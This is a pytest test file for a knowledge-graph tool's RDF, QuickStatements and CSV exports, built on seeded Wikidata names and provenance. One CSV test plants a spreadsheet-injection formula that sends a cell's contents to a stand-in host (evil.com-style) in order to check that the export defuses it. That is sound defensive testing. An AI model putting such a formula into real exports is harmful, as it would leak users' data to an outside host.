"""`kgx export`: RDF with PROV-O, QuickStatements v1 and CSV, read back and compared with
the real graph.

Until the enrichment, prediction and alignment writers land, :func:`seed_enrichment` writes
what they write, by the graph model (README), with real runs; the audit is the real one.
"""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from rdflib import OWL, PROV, RDF, RDFS, SKOS, Literal, URIRef
from rdflib import Graph as RdfGraph
from rdflib.term import Node

from kgx import cli
from kgx.enrich.graph_audit import audit_graph
from kgx.errors import ConfigError
from kgx.graph.connection import Graph
from kgx.ingest.load import load_wikidata
from kgx.provenance.export import (
    KGX,
    SCHEMA,
    entity_iri,
    export_csv,
    export_quickstatements,
    export_rdf,
    read_quickstatements,
)
from kgx.provenance.runs import RunRecorder

DUMP = Path(__file__).resolve().parents[1] / "data" / "dump-head-2017.json"
XSD_DATETIME = URIRef("http://www.w3.org/2001/XMLSchema#dateTime")
LONG = "Kamusi " * 40  # 280 characters: over Wikidata's 250

#: Generated terms: (entity, kind, lang, text, primary, score of its source, method, source).
#: source: 'en' (the English label), 'enwiki' (a sitelink) or 'Q…' (an entity).
GENERATED = [
    ("Q13", "name", "sw", "Triskaidekaphobia", True, 0.92, "label-transfer", "enwiki"),
    ("Q13", "description", "sw", "hofu ya namba kumi na tatu", None, 0.9, "translation", "en"),
    ("Q82", "name", "sw", "Printa", True, 0.81, "translation", "en"),
    ("Q82", "name", "sw", 'Mashine ya "kuchapa"', False, 0.7, "translation", "en"),
    ("Q82", "description", "sw", "Printa", None, 0.75, "translation", "en"),
    ("Q102", "name", "sw", LONG, True, 0.99, "translation", "en"),
    ("Q116", "name", "sw", "Mfalme", True, 0.3, "translation", "en"),
    ("Q1", "name", "sw", "Ulimwengu mzima", True, 0.95, "translation", "en"),
    ("Q1", "name", "yo", "Àgbáyé", True, 0.88, "entity-label", "Q22"),
    ("Q144", "description", "sw", "mnyama wa nyumbani", None, 0.8, "translation", "en"),
]


def seed_enrichment(graph: Graph) -> dict[str, Any]:
    """Load the test dump and add an enrichment, an audit, a prediction and an alignment.

    Returns the run ids and a few facts the tests check against.
    """
    load_wikidata(graph, DUMP)
    q1_sw = graph.read("MATCH (:Entity {kg: 'wikidata', id: 'Q1'})-[:HAS_NAME]->"
                       "(n:Name {lang: 'sw', primary: true}) RETURN n.text AS t")[0]["t"]
    rows = [dict(zip(("id", "kind", "lang", "text", "primary", "score", "method", "source"),
                     g, strict=True)) for g in GENERATED]
    # one generated name equal to the existing Swahili label (QuickStatements must skip it)
    rows.append({"id": "Q1", "kind": "name", "lang": "sw", "text": q1_sw, "primary": False,
                 "score": 0.6, "method": "translation", "source": "en"})
    with RunRecorder(graph, "enrich", {"langs": ["sw", "yo"], "kg": "wikidata",
                                       "sources": ["translation", "label-transfer"]}) as enrich:
        graph.write("""
            UNWIND $rows AS row
            MATCH (e:Entity {kg: 'wikidata', id: row.id}), (r:Run {id: $run})
            CALL (e, row) {
              OPTIONAL MATCH (e)-[:HAS_NAME]->(en:Name {lang: 'en', primary: true})
              OPTIONAL MATCH (e)-[:HAS_SITELINK]->(s:Sitelink {site: row.source})
              OPTIONAL MATCH (other:Entity {kg: 'wikidata', id: row.source})
              RETURN coalesce(CASE row.source WHEN 'en' THEN en END, s, other) AS src
            }
            FOREACH (_ IN CASE WHEN row.kind = 'name' THEN [1] ELSE [] END |
              CREATE (e)-[:HAS_NAME]->(n:Name {lang: row.lang, text: row.text,
                      primary: row.primary, status: 'generated', run: $run})
                     -[:WAS_GENERATED_BY]->(r)
              CREATE (n)-[:WAS_DERIVED_FROM {method: row.method, score: row.score}]->(src))
            FOREACH (_ IN CASE WHEN row.kind = 'description' THEN [1] ELSE [] END |
              CREATE (e)-[:HAS_DESCRIPTION]->(d:Description {lang: row.lang, text: row.text,
                      status: 'generated', run: $run})-[:WAS_GENERATED_BY]->(r)
              CREATE (d)-[:WAS_DERIVED_FROM {method: row.method, score: row.score}]->(src))
            """, {"rows": rows, "run": enrich.id})
        # a generated name the aggregation rejected: kept, with its provenance, never exported
        # as a label
        graph.write("""
            MATCH (e:Entity {kg: 'wikidata', id: 'Q139'}), (r:Run {id: $run}),
                  (e)-[:HAS_NAME]->(en:Name {lang: 'en', primary: true})
            CREATE (e)-[:HAS_NAME]->(n:Name {lang: 'sw', text: 'Malkia wa chess', primary: true,
                    status: 'rejected', run: $run})-[:WAS_GENERATED_BY]->(r),
                   (n)-[:WAS_DERIVED_FROM {method: 'translation', score: 0.2}]->(en)
            """, {"run": enrich.id})
        enrich.counts.update({"generated": len(rows), "rejected": 1,
                              "source:translation": 7, "source:label-transfer": 1,
                              "source:entity-label": 1})
    audit = audit_graph(graph, "ja")
    with RunRecorder(graph, "predict", {"model": "test"}) as predict:
        graph.write("""
            UNWIND $links AS l
            MATCH (h:Entity {kg: 'wikidata', id: l[0]}), (t:Entity {kg: 'wikidata', id: l[1]})
            CREATE (h)-[:PREDICTED {pid: 'P31', score: l[2], rank: l[3], run: $run}]->(t)
            """, {"run": predict.id, "links": [["Q82", "Q1", 0.91, 1], ["Q82", "Q13", 0.4, 2],
                                               ["Q44", "Q282", 0.77, 1]]})
        predict.counts["predicted"] = 3
    with RunRecorder(graph, "align", {"method": "test", "kg1": "wikidata",
                                      "kg2": "dbp_sw"}) as align:
        graph.write("""
            UNWIND $pairs AS p
            MATCH (a:Entity {kg: 'wikidata', id: p[0]})
            MERGE (b:Entity {kg: 'dbp_sw', id: p[1]})
            CREATE (a)-[:SAME_AS {score: p[2], method: 'csls', run: $run}]->(b)
            """, {"run": align.id, "pairs": [["Q82", "Printa", 0.83], ["Q44", "Bia", 0.66]]})
        align.counts["pairs"] = 2
    return {"enrich": enrich.id, "audit": audit.run_id, "predict": predict.id,
            "align": align.id, "q1_sw": q1_sw}


@pytest.fixture(scope="module")
def seeded(session_graph: Graph) -> dict[str, Any]:
    session_graph.clear()
    return seed_enrichment(session_graph)


def _n(graph: Graph, cypher: str, **params: Any) -> int:
    return int(graph.read(cypher, params)[0]["n"])


def _statements(rdf: RdfGraph, predicate: URIRef) -> list[Node]:
    return [s for s in rdf.subjects(RDF.predicate, predicate)
            if (s, RDF.type, RDF.Statement) in rdf]


# -- RDF -------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["turtle", "nt"])
def test_rdf_round_trips_to_the_graphs_counts(session_graph: Graph, seeded: dict[str, Any],
                                              tmp_path: Path, fmt: str) -> None:
    g = session_graph
    out = tmp_path / f"all.{'ttl' if fmt == 'turtle' else 'nt'}"
    result = export_rdf(g, out, fmt=fmt, page_size=7)  # several pages, streamed
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask, "as any file the user writes"
    rdf = RdfGraph().parse(out, format=fmt)

    def distinct_terms(rel: str, label: str, where: str) -> int:
        return _n(g, f"MATCH (e:Entity)-[:{rel}]->(n:{label}) WHERE {where} "
                  "RETURN count(DISTINCT [e.kg, e.id, n.lang, n.text]) AS n")

    labels = distinct_terms("HAS_NAME", "Name", "n.primary AND n.status <> 'rejected'")
    aliases = distinct_terms("HAS_NAME", "Name", "NOT n.primary AND n.status <> 'rejected'")
    descriptions = distinct_terms("HAS_DESCRIPTION", "Description", "n.status <> 'rejected'")
    assert len(list(rdf.triples((None, RDFS.label, None)))) - result.counts["runs"] == labels
    assert len(list(rdf.triples((None, SKOS.altLabel, None)))) == aliases
    assert len(list(rdf.triples((None, SCHEMA.description, None)))) == descriptions
    assert labels > 1000 and aliases > 100  # the whole dump, not a sample

    # every generated, rejected or flagged term is a reified statement with its provenance
    reified_names = _statements(rdf, RDFS.label) + _statements(rdf, SKOS.altLabel)
    assert len(reified_names) == _n(g, "MATCH (n:Name) WHERE n.status <> 'original' "
                                       "RETURN count(n) AS n")
    assert len(_statements(rdf, SCHEMA.description)) == _n(
        g, "MATCH (d:Description) WHERE d.status <> 'original' RETURN count(d) AS n")
    generated = [s for s in rdf.subjects(PROV.wasGeneratedBy, None)
                 if (s, RDF.predicate, RDFS.label) in rdf or (s, RDF.predicate, SKOS.altLabel)
                 in rdf or (s, RDF.predicate, SCHEMA.description) in rdf]
    assert len(generated) == _n(g, "MATCH (n)-[:WAS_GENERATED_BY]->(:Run) RETURN count(n) AS n")
    assert len(list(rdf.triples((None, PROV.wasDerivedFrom, None)))) == _n(
        g, "MATCH ()-[d:WAS_DERIVED_FROM]->() RETURN count(d) AS n")
    assert len(list(rdf.subjects(RDF.type, PROV.Derivation))) == _n(
        g, "MATCH ()-[d:WAS_DERIVED_FROM]->() RETURN count(d) AS n")
    flagged = _n(g, "MATCH (n:Name {status: 'suspect'}) RETURN count(n) AS n")
    assert flagged > 0 and len(list(rdf.subjects(KGX.flaggedBy, None))) == flagged

    # a rejected name is reified, never asserted as a label
    q139 = URIRef(entity_iri("wikidata", "Q139"))
    assert (q139, RDFS.label, Literal("Malkia wa chess", lang="sw")) not in rdf
    rejected = [s for s in rdf.subjects(KGX.status, Literal("rejected"))]
    assert len(rejected) == 1 and (rejected[0], RDF.subject, q139) in rdf

    # the generated Swahili label of Q13 with its run, source page, method and score
    q13 = URIRef(entity_iri("wikidata", "Q13"))
    lit = Literal("Triskaidekaphobia", lang="sw")
    assert (q13, RDFS.label, lit) in rdf
    [s] = [s for s in rdf.subjects(RDF.object, lit) if (s, RDF.subject, q13) in rdf]
    run = URIRef(f"urn:kgx:run:{seeded['enrich']}")
    assert (s, PROV.wasGeneratedBy, run) in rdf
    assert (s, PROV.wasDerivedFrom,
            URIRef("https://en.wikipedia.org/wiki/Triskaidekaphobia")) in rdf
    [d] = rdf.objects(s, PROV.qualifiedDerivation)
    assert rdf.value(d, KGX.method) == Literal("label-transfer")
    score = rdf.value(d, KGX.score)
    assert isinstance(score, Literal) and score.toPython() == pytest.approx(0.92)

    # runs are activities with their times; predicted links and alignments are reified
    runs = list(rdf.subjects(RDF.type, PROV.Activity))
    assert len(runs) == _n(g, "MATCH (r:Run) RETURN count(r) AS n")
    started = [rdf.value(r, PROV.startedAtTime) for r in runs]
    assert all(isinstance(t, Literal) and t.datatype == XSD_DATETIME for t in started)
    assert (run, KGX.kind, Literal("enrich")) in rdf
    predicted = _statements(rdf, URIRef("http://www.wikidata.org/prop/direct/P31"))
    assert len(predicted) == _n(g, "MATCH ()-[p:PREDICTED]->() RETURN count(p) AS n") == 3
    assert all(rdf.value(p, KGX.score) is not None and rdf.value(p, KGX.rank) is not None
               and rdf.value(p, PROV.wasGeneratedBy) is not None for p in predicted)
    same = _statements(rdf, OWL.sameAs)
    assert len(same) == _n(g, "MATCH ()-[s:SAME_AS]->() RETURN count(s) AS n") == 2
    assert not list(rdf.triples((None, OWL.sameAs, None))), "alignments are proposals"
    assert {rdf.value(s, RDF.object) for s in same} == {
        URIRef("urn:kgx:entity:dbp_sw:Printa"), URIRef("urn:kgx:entity:dbp_sw:Bia")}


def test_rdf_of_one_run(session_graph: Graph, seeded: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "enrich.nt"
    result = export_rdf(session_graph, out, fmt="nt", run=seeded["enrich"],
                        what="names,descriptions")
    rdf = RdfGraph().parse(out, format="nt")
    names = _n(session_graph, "MATCH (n:Name {run: $run}) RETURN count(n) AS n",
               run=seeded["enrich"])
    descs = _n(session_graph, "MATCH (n:Description {run: $run}) RETURN count(n) AS n",
               run=seeded["enrich"])
    assert result.counts["reified_names"] == names == 7 + 1 + 1  # + duplicate + rejected
    assert len(_statements(rdf, RDFS.label) + _statements(rdf, SKOS.altLabel)) == names
    assert len(_statements(rdf, SCHEMA.description)) == descs == 3
    assert list(rdf.subjects(RDF.type, PROV.Activity)) == [
        URIRef(f"urn:kgx:run:{seeded['enrich']}")]
    assert not _statements(rdf, OWL.sameAs)
    with pytest.raises(ConfigError, match="no run"):
        export_rdf(session_graph, out, run="enrich-nope")
    with pytest.raises(ConfigError, match="unknown"):
        export_rdf(session_graph, out, what="names,labels")


# -- QuickStatements -------------------------------------------------------------------------

def test_rdf_of_one_graph_has_the_alignments_into_it(session_graph: Graph,
                                                      seeded: dict[str, Any],
                                                      tmp_path: Path) -> None:
    """Alignments are written from their start entity; exporting the graph they point into
    has them too, in their direction; exporting every graph has each once."""
    def same_as(**kw: Any) -> list[tuple[Node | None, Node | None]]:
        out = tmp_path / "x.nt"
        export_rdf(session_graph, out, fmt="nt", what="same_as", **kw)
        rdf = RdfGraph().parse(out, format="nt")
        return sorted((rdf.value(s, RDF.subject), rdf.value(s, RDF.object))
                      for s in _statements(rdf, OWL.sameAs))

    everything = same_as()
    assert len(everything) == 2
    assert same_as(kg="dbp_sw") == same_as(kg="wikidata") == everything
    assert all(str(a).startswith(entity_iri("wikidata", "")) for a, _ in everything)


def test_runs_that_used_other_runs_are_informed_by_them(session_graph: Graph,
                                                        seeded: dict[str, Any],
                                                        tmp_path: Path) -> None:
    session_graph.write("MATCH (p:Run {id: $p}), (a:Run {id: $a}) MERGE (p)-[:USED]->(a)",
                        {"p": seeded["predict"], "a": seeded["align"]})
    try:
        out = tmp_path / "runs.nt"
        export_rdf(session_graph, out, fmt="nt", what="same_as")
        rdf = RdfGraph().parse(out, format="nt")
        predict, align = (URIRef(next(str(r) for r in rdf.subjects(RDF.type, PROV.Activity)
                                      if str(r).endswith(seeded[k]))) for k in ("predict", "align"))
        assert (predict, PROV.wasInformedBy, align) in rdf
        assert not list(rdf.triples((None, PROV.used, None)))  # prov:used takes an entity
    finally:
        session_graph.write("MATCH (:Run {id: $p})-[u:USED]->(:Run {id: $a}) DELETE u",
                            {"p": seeded["predict"], "a": seeded["align"]})


def test_quickstatements_round_trip_and_refusals(session_graph: Graph, seeded: dict[str, Any],
                                                 tmp_path: Path) -> None:
    out = tmp_path / "sw.qs"
    result = export_quickstatements(session_graph, out, min_score=0.5)
    commands = read_quickstatements(out)
    summary = f"kgx run {seeded['enrich']}"
    assert all(c.summary == summary for c in commands)
    got = {(c.item, c.kind, c.lang, c.text) for c in commands}
    assert got == {
        ("Q13", "L", "sw", "Triskaidekaphobia"),
        ("Q13", "D", "sw", "hofu ya namba kumi na tatu"),
        ("Q82", "L", "sw", "Printa"),
        ("Q82", "A", "sw", 'Mashine ya "kuchapa"'),  # quotes survive QuickStatements' parser
        ("Q1", "A", "sw", "Ulimwengu mzima"),         # Q1 has a Swahili label: an alias
        ("Q1", "L", "yo", "Àgbáyé"),
    }
    assert len(commands) == len(got)
    assert result.skipped == {"too-long": 1, "description-equals-label": 1,
                              "already-a-label-or-alias": 1, "description-exists": 1}
    assert sum(result.counts.values()) == len(commands)
    # the file is what QuickStatements v1 expects: TAB-separated, summary after a space
    line = re.compile(r'^Q\d+\t[LDA][a-z-]+\t".+" /\* kgx run [\w.-]+ \*/$')
    assert all(line.match(ln) for ln in out.read_text(encoding="utf-8").splitlines())
    # the low-scored name comes in without --min-score; one language only with --lang
    everything = {(c.item, c.text) for c in read_quickstatements(
        export_quickstatements(session_graph, tmp_path / "all.qs").path)}
    assert ("Q116", "Mfalme") in everything
    yo = read_quickstatements(export_quickstatements(session_graph, tmp_path / "yo.qs",
                                                     langs="yo").path)
    assert [(c.item, c.kind, c.text) for c in yo] == [("Q1", "L", "Àgbáyé")]
    assert not read_quickstatements(export_quickstatements(
        session_graph, tmp_path / "none.qs", run=seeded["predict"]).path)
    # an original label rejected here is still Wikidata's: the new name stays an alias
    # (found in review: it was written as the label, replacing Wikidata's)
    rejected = """MATCH (:Entity {kg: 'wikidata', id: 'Q1'})-[:HAS_NAME]->(n:Name {lang: 'sw',
                  primary: true}) WHERE n.run IS NULL SET n.status = $status"""
    session_graph.write(rejected, {"status": "rejected"})
    try:
        sw = read_quickstatements(export_quickstatements(session_graph, tmp_path / "r.qs",
                                                         langs="sw").path)
        assert ("Q1", "A", "Ulimwengu mzima") in {(c.item, c.kind, c.text) for c in sw}
    finally:
        session_graph.write(rejected, {"status": "original"})


# -- CSV and the command line ----------------------------------------------------------------

def test_csv_of_a_named_query(session_graph: Graph, seeded: dict[str, Any],
                              tmp_path: Path) -> None:
    out = tmp_path / "q1.csv"
    result = export_csv(session_graph, "entity_names", out, {"id": "Q1", "lang": "sw"})
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    expected = session_graph.query("entity_names", id="Q1", lang="sw")
    assert result.counts["rows"] == len(rows) == len(expected) >= 3
    assert [r["text"] for r in rows] == [e["text"] for e in expected]
    generated = [r for r in rows if r["status"] == "generated"]
    assert generated and all(json.loads(r["sources"]) for r in generated)
    # no rows: still a header, the query's columns
    empty = export_csv(session_graph, "entities_missing_name", tmp_path / "none.csv",
                       {"lang": "en"})
    assert empty.counts["rows"] == 0
    assert (tmp_path / "none.csv").read_text(encoding="utf-8") == "id,english\n"
    with pytest.raises(ConfigError, match="no query named"):
        export_csv(session_graph, "no_such_query", tmp_path / "x.csv")
    # found in review: a name from the graph that a spreadsheet would run as a formula
    session_graph.write("""MATCH (e:Entity {kg: 'wikidata', id: 'Q1'})
                           CREATE (e)-[:HAS_NAME]->(:Name {lang: 'sw', primary: false,
                                   status: 'original', text: $t, test: true})""",
                        {"t": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
    try:
        export_csv(session_graph, "entity_names", out, {"id": "Q1", "lang": "sw"})
        texts = [r["text"] for r in csv.DictReader(out.open(encoding="utf-8"))]
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in texts
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    finally:
        session_graph.write("MATCH (n:Name {test: true}) DETACH DELETE n")


def test_export_commands(session_graph: Graph, seeded: dict[str, Any], tmp_path: Path,
                         cli_env: None, capsys: pytest.CaptureFixture[str]) -> None:
    ttl, qs, table = tmp_path / "x.ttl", tmp_path / "x.qs", tmp_path / "x.csv"
    assert cli.main(["export", "rdf", "--out", str(ttl), "--what", "predicted,same_as"]) == 0
    rdf = RdfGraph().parse(ttl, format="turtle")
    assert len(_statements(rdf, OWL.sameAs)) == 2
    assert not list(rdf.triples((None, SKOS.altLabel, None)))  # no names asked for
    assert cli.main(["export", "quickstatements", "--out", str(qs), "--min-score", "0.5",
                     "--lang", "sw", "--run", seeded["enrich"]]) == 0
    assert {c.lang for c in read_quickstatements(qs)} == {"sw"}
    assert cli.main(["export", "csv", "suspect_names", "--out", str(table),
                     "-p", "lang=ja"]) == 0
    assert len(list(csv.DictReader(table.open(encoding="utf-8")))) == _n(
        session_graph, "MATCH (n:Name {lang: 'ja', status: 'suspect'}) RETURN count(n) AS n")
    out = capsys.readouterr().out
    assert "wrote" in out and "skipped" in out
    assert cli.main(["export", "csv", "suspect_names", "--out", str(table)]) == 2  # no lang
    assert cli.main(["export", "rdf", "--out", str(tmp_path / "no" / "x.ttl")]) != 0
    # a folder as --out: refused before the export, not after it (and no temp file left)
    for what in (["rdf"], ["quickstatements"], ["csv", "suspect_names", "-p", "lang=ja"]):
        capsys.readouterr()
        assert cli.main(["export", *what, "--out", str(tmp_path)]) != 0
        assert "it is a folder" in capsys.readouterr().err
    assert not list(tmp_path.glob(".*.tmp"))
    assert cli.main(["report", "--out", str(ttl)]) == 2  # a file, not a folder


def test_quickstatements_only_where_the_graph_holds_the_language(graph: Graph,
                                                                 tmp_path: Path) -> None:
    """A label or description is written only in a language whose terms the entity's load
    kept: elsewhere Wikidata may have one, which QuickStatements would replace."""
    load_wikidata(graph, DUMP, languages={"en", "sw"})
    stub = graph.read("MATCH (e:Entity {kg: 'wikidata'}) WHERE e.hash IS NULL "
                      "RETURN e.id AS id ORDER BY id LIMIT 1")[0]["id"]
    with RunRecorder(graph, "enrich", {}) as run:
        graph.write("""
            UNWIND [['Q13', 'sw', 'Jina'], ['Q13', 'yo', 'Orúkọ'], ['Q13', 'de', 'Name'],
                    [$stub, 'sw', 'Kitu']] AS t
            MATCH (e:Entity {kg: 'wikidata', id: t[0]}), (r:Run {id: $run})
            CREATE (e)-[:HAS_NAME]->(:Name {lang: t[1], text: t[2], primary: true, score: 0.9,
                                            status: 'generated', run: $run})
                   -[:WAS_GENERATED_BY]->(r)""", {"run": run.id, "stub": stub})
    result = export_quickstatements(graph, tmp_path / "x.qs")
    assert [(c.item, c.kind, c.lang) for c in read_quickstatements(result.path)] == [
        ("Q13", "L", "sw")]
    assert result.skipped == {"language-not-loaded": 3}


def test_a_generated_and_an_original_name_of_the_same_text_stay_apart(graph: Graph,
                                                                        tmp_path: Path) -> None:
    """Found in review: a name kgx generated, applied on Wikidata and loaded back as an
    original, then flagged, became one rdf:Statement with both runs and both statuses."""
    load_wikidata(graph, DUMP, languages={"en"})
    with RunRecorder(graph, "enrich", {}) as enrich_run:
        graph.write("""
            MATCH (e:Entity {kg: 'wikidata', id: 'Q13'}), (r:Run {id: $run})
            CREATE (e)-[:HAS_NAME]->(:Name {lang: 'sw', text: 'Jina', primary: true,
                                            score: 0.9, status: 'generated', run: $run})
                   -[:WAS_GENERATED_BY]->(r)""", {"run": enrich_run.id})
    with RunRecorder(graph, "audit", {}) as audit_run:
        graph.write("""
            MATCH (e:Entity {kg: 'wikidata', id: 'Q13'})
            CREATE (e)-[:HAS_NAME]->(:Name {lang: 'sw', text: 'Jina', primary: true,
                                            status: 'suspect', flaggedBy: $run})""",
                    {"run": audit_run.id})
    result = export_rdf(graph, tmp_path / "x.ttl")
    rdf = RdfGraph().parse(tmp_path / "x.ttl")
    # one label triple, counted once (it was counted per node)
    assert result.counts["labels"] == sum(
        str(s).startswith("http://www.wikidata.org/entity/")
        for s in rdf.subjects(RDFS.label, None))
    jina = [s for s in rdf.subjects(RDF.type, RDF.Statement)
            if rdf.value(s, RDF.object) == Literal("Jina", lang="sw")]
    assert len(jina) == 2
    assert sorted(str(rdf.value(s, URIRef("urn:kgx:vocab:status"))) for s in jina) == [
        "generated", "suspect"]
    assert [len(list(rdf.objects(s, PROV.wasGeneratedBy))) for s in jina].count(1) == 1
